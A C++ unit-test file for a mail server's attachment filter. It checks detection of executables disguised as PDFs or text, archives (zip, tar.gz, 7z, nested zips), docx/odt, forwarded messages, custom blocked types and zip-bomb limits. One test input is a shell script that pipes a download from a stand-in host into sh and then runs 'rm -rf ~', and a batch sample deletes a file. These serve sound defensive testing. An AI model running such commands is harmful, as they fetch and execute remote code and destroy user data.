// Attachment blocking: types by content under innocent names, archives opened (zip, tar.gz,
// 7z, bare gzip), docx as an archive, nested messages, custom types, zip-bomb bounds.
#include "filter/attachments.h"

#include <gtest/gtest.h>

#include "filter/attachments_magic.h"
#include "filter/attachments_types.h"
#include "filter_test_util.h"
#include "mime/parser.h"
#include "store/settings.h"

namespace magpie::filter {
namespace {

using filter_test::Attachment;
using filter_test::mime_message;

std::string clam_exe() {
    auto p = filter_test::clamav_testfiles() / "clam.exe";
    return std::filesystem::exists(p) ? filter_test::read_file(p) : std::string();
}

std::string elf() {
    return filter_test::read_file("/bin/ls");
}

AttachmentReport inspect(const std::string& raw, const AttachmentPolicy& policy = {},
                         const AttachmentLimits& limits = {}) {
    auto msg = mime::parse_message(raw);
    return inspect_attachments(msg, policy, limits);
}

std::optional<std::string> blocked(const std::string& raw, const AttachmentPolicy& policy = {}) {
    auto msg = mime::parse_message(raw);
    return blocked_attachment(msg, policy);
}

bool has(const AttachmentReport& r, AttachmentClass c) {
    for (auto& f : r.findings)
        if (f.cls == c) return true;
    return false;
}

TEST(AttachmentTypes, Tables) {
    EXPECT_TRUE(is_executable_type("application/x-dosexec"));
    EXPECT_TRUE(is_executable_type("application/vnd.microsoft.portable-executable"));
    EXPECT_TRUE(is_executable_type("text/x-msdos-batch"));
    EXPECT_FALSE(is_executable_type("application/pdf"));
    EXPECT_TRUE(is_archive_type("application/zip"));
    EXPECT_TRUE(
        is_archive_type("application/vnd.openxmlformats-officedocument.wordprocessingml.document"));
    EXPECT_TRUE(is_archive_type("application/vnd.oasis.opendocument.text"));
    EXPECT_FALSE(is_archive_type("text/plain"));
}

TEST(AttachmentTypes, TypeList) {
    auto l = parse_type_list(" Application/PDF, image/*  bogus, /x, a/b/c, application/pdf");
    ASSERT_EQ(l.size(), 2u);
    EXPECT_EQ(l[0], "application/pdf");
    EXPECT_TRUE(matches_type_list("image/png", l));
    EXPECT_TRUE(matches_type_list("application/pdf", l));
    EXPECT_FALSE(matches_type_list("imagex/png", l));
    EXPECT_FALSE(matches_type_list("text/plain", l));
}

TEST(AttachmentMagic, TypesByContent) {
    EXPECT_EQ(magic_type("hello world\n"), "text/plain");
    EXPECT_EQ(magic_type(""), "application/octet-stream");
    EXPECT_TRUE(is_executable_type(magic_type(elf())));
    EXPECT_EQ(magic_type(filter_test::zip({{"a.txt", "hello"}})), "application/zip");
}

TEST(Attachments, PlainMessagePasses) {
    auto raw = mime_message({{"report.pdf", "application/pdf", "%PDF-1.4\n%\xe2\xe3\n1 0 obj\n"}});
    auto r = inspect(raw);
    EXPECT_TRUE(r.findings.empty());
    EXPECT_FALSE(r.block_reason);
    EXPECT_FALSE(r.incomplete);
}

TEST(Attachments, ExeUnderInnocentName) {
    auto exe = clam_exe();
    if (exe.empty()) GTEST_SKIP() << "clamav-testfiles not installed";
    auto raw = mime_message({{"invoice.pdf", "application/pdf", exe}});
    auto reason = blocked(raw);
    ASSERT_TRUE(reason);
    EXPECT_NE(reason->find("executable"), std::string::npos) << *reason;
    EXPECT_NE(reason->find("in attachment 2 (invoice.pdf)"), std::string::npos) << *reason;
    EXPECT_EQ(attachment_reject_reply(*reason).rfind("554 5.7.1 ", 0), 0u);
}

TEST(Attachments, ElfAndScriptsUnderInnocentNames) {
    EXPECT_TRUE(blocked(mime_message({{"notes.txt", "text/plain", elf()}})));
    EXPECT_TRUE(blocked(mime_message(
        {{"readme.txt", "text/plain", "#!/bin/sh\ncurl http://x.example/a | sh\nrm -rf ~\n"}})));
    EXPECT_TRUE(blocked(
        mime_message({{"letter.txt", "text/plain", "@echo off\r\necho hi\r\ndel c:\\x\r\n"}})));
}

TEST(Attachments, MsiUnderInnocentName) {
    auto msi = filter_test::minimal_msi();
    EXPECT_EQ(magic_type(msi), "application/x-msi");
    auto reason = blocked(mime_message({{"setup.doc", "application/msword", msi}}));
    ASSERT_TRUE(reason);
    EXPECT_EQ(reason->rfind("executable application/x-msi in attachment 2 (setup.doc)", 0), 0u)
        << *reason;
}

TEST(Attachments, TextAttachmentPasses) {
    EXPECT_FALSE(blocked(mime_message({{"notes.txt", "text/plain", "just some notes\n"}})));
}

TEST(Attachments, ExecutablesSwitchable) {
    AttachmentPolicy off{false, false, {}};
    EXPECT_FALSE(blocked(mime_message({{"notes.txt", "text/plain", elf()}}), off));
    auto r = inspect(mime_message({{"notes.txt", "text/plain", elf()}}), off);
    EXPECT_TRUE(has(r, AttachmentClass::Executable));
}

TEST(Attachments, ZipHoldingExeIsExecutable) {
    auto z = filter_test::zip({{"readme.txt", "hello"}, {"photos/setup.pdf", elf()}});
    auto r = inspect(mime_message({{"photos.jpg", "image/jpeg", z}}));
    ASSERT_TRUE(r.block_reason);
    EXPECT_NE(r.block_reason->find("at photos/setup.pdf"), std::string::npos) << *r.block_reason;
    EXPECT_TRUE(has(r, AttachmentClass::Archive));
}

TEST(Attachments, TarGzAnd7zAndGzipHoldingExe) {
    auto tgz = filter_test::make_archive(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_GZIP,
                                         {{"a.txt", "hi"}, {"b.doc", elf()}});
    EXPECT_TRUE(blocked(mime_message({{"data.bin", "application/octet-stream", tgz}})));
    auto sz =
        filter_test::make_archive(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, {{"b.doc", elf()}});
    EXPECT_TRUE(blocked(mime_message({{"data.bin", "application/octet-stream", sz}})));
    auto gz = filter_test::make_archive(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, {{"x", elf()}});
    auto r = inspect(mime_message({{"data.bin", "application/octet-stream", gz}}));
    EXPECT_TRUE(r.block_reason) << r.findings.size();
    EXPECT_TRUE(has(r, AttachmentClass::Archive));
}

TEST(Attachments, ZipInZipHoldingExe) {
    auto inner = filter_test::zip({{"tool.txt", elf()}});
    auto outer = filter_test::zip({{"inner.zip", inner}});
    auto r = inspect(mime_message({{"a.txt", "text/plain", outer}}));
    ASSERT_TRUE(r.block_reason);
    EXPECT_NE(r.block_reason->find("inner.zip/tool.txt"), std::string::npos) << *r.block_reason;
}

TEST(Attachments, ArchivesBlockedOnlyWhenAsked) {
    auto z = filter_test::zip({{"a.txt", "hello"}});
    auto raw = mime_message({{"a.zip", "application/zip", z}});
    EXPECT_FALSE(blocked(raw));
    auto reason = blocked(raw, {true, true, {}});
    ASSERT_TRUE(reason);
    EXPECT_EQ(reason->rfind("archive application/zip in attachment 2 (a.zip)", 0), 0u) << *reason;
}

TEST(Attachments, DocxAndOdtCountAsArchives) {
    auto docx = filter_test::zip(
        {{"[Content_Types].xml",
          "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/"
          "2006/content-types\"></Types>"},
         {"_rels/.rels", "<Relationships/>"},
         {"word/document.xml", "<w:document/>"}});
    auto odt = filter_test::zip(
        {{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", "<x/>"}});
    for (auto& doc : {docx, odt}) {
        auto raw = mime_message({{"letter.docx", "application/octet-stream", doc}});
        auto r = inspect(raw);
        EXPECT_TRUE(has(r, AttachmentClass::Archive));
        EXPECT_FALSE(r.block_reason);
        EXPECT_TRUE(blocked(raw, {true, true, {}}));
    }
}

TEST(Attachments, NestedMessage) {
    auto inner = mime_message({{"invoice.pdf", "application/pdf", elf()}});
    auto r = inspect(filter_test::forward_message(inner));
    ASSERT_TRUE(r.block_reason);
    EXPECT_NE(r.block_reason->find("in attachment 2.2 (invoice.pdf)"), std::string::npos)
        << *r.block_reason;
}

TEST(Attachments, SinglePartMessageBody) {
    std::string raw =
        "From: a@example.com\r\nSubject: x\r\nContent-Type: text/plain\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" +
        filter_test::wrap76(base64_encode(elf()));
    auto reason = blocked(raw);
    ASSERT_TRUE(reason);
    EXPECT_NE(reason->find("in attachment 1"), std::string::npos);
}

TEST(Attachments, CustomTypes) {
    std::string png("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0", 29);
    std::string pdf = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n";
    auto raw = mime_message({{"a.txt", "text/plain", png}, {"b.txt", "text/plain", pdf}});
    EXPECT_FALSE(blocked(raw));
    AttachmentPolicy images{false, false, {"image/*"}};
    auto reason = blocked(raw, images);
    ASSERT_TRUE(reason);
    EXPECT_EQ(reason->rfind("blocked type image/png in attachment 2", 0), 0u) << *reason;
    AttachmentPolicy pdfs{false, false, {"application/pdf"}};
    reason = blocked(raw, pdfs);
    ASSERT_TRUE(reason);
    EXPECT_NE(reason->find("application/pdf in attachment 3 (b.txt)"), std::string::npos);
    // Custom types are looked for inside archives too.
    auto z = filter_test::zip({{"scan.dat", pdf}});
    EXPECT_TRUE(blocked(mime_message({{"a.zip", "application/zip", z}}), pdfs));
}

TEST(Attachments, ZipBombStaysWithinBudget) {
    std::string zeros(8 << 20, '\0');
    auto bomb = filter_test::zip({{"zeros.bin", zeros}, {"late.exe", elf()}});
    ASSERT_LT(bomb.size(), 200u << 10);
    AttachmentLimits limits;
    limits.max_archive_bytes = 1 << 20;
    auto r = inspect(mime_message({{"a.zip", "application/zip", bomb}}), {}, limits);
    EXPECT_TRUE(r.incomplete);
    EXPECT_TRUE(has(r, AttachmentClass::Archive));
}

TEST(Attachments, EntryAndDepthBounds) {
    std::vector<std::pair<std::string, std::string>> many;
    for (int i = 0; i < 50; ++i) many.emplace_back("f" + std::to_string(i) + ".txt", "x");
    many.emplace_back("last.bin", elf());
    AttachmentLimits limits;
    limits.max_archive_entries = 10;
    auto r =
        inspect(mime_message({{"a.zip", "application/zip", filter_test::zip(many)}}), {}, limits);
    EXPECT_TRUE(r.incomplete);
    EXPECT_FALSE(r.block_reason);

    std::string z = filter_test::zip({{"tool", elf()}});
    for (int i = 0; i < 5; ++i) z = filter_test::zip({{"z" + std::to_string(i) + ".zip", z}});
    limits = {};
    r = inspect(mime_message({{"a.zip", "application/zip", z}}), {}, limits);
    EXPECT_TRUE(r.incomplete);
    EXPECT_FALSE(r.block_reason);
    limits.max_archive_depth = 6;
    EXPECT_TRUE(inspect(mime_message({{"a.zip", "application/zip", z}}), {}, limits).block_reason);
}

TEST(Attachments, DamagedArchiveDoesNotThrow) {
    auto z = filter_test::zip({{"a.txt", std::string(5000, 'a')}, {"b", elf()}});
    z.resize(z.size() / 2);
    auto r = inspect(mime_message({{"a.zip", "application/zip", z}}));
    EXPECT_TRUE(has(r, AttachmentClass::Archive));
}

TEST(Attachments, PolicyFromSettings) {
    auto s = store::Settings::from_map(
        {{"filter_block_archives", "yes"}, {"filter_block_types", "Image/PNG, application/pdf"}});
    auto p = AttachmentPolicy::from_settings(s);
    EXPECT_TRUE(p.block_executables);
    EXPECT_TRUE(p.block_archives);
    ASSERT_EQ(p.custom_types.size(), 2u);
    EXPECT_EQ(p.custom_types[0], "image/png");
    std::string err;
    EXPECT_FALSE(normalize_setting(*store::find_setting("filter_block_types"), "pdf", &err));
    EXPECT_NE(err.find("not a MIME type"), std::string::npos);
}

}  // namespace
}  // namespace magpie::filter
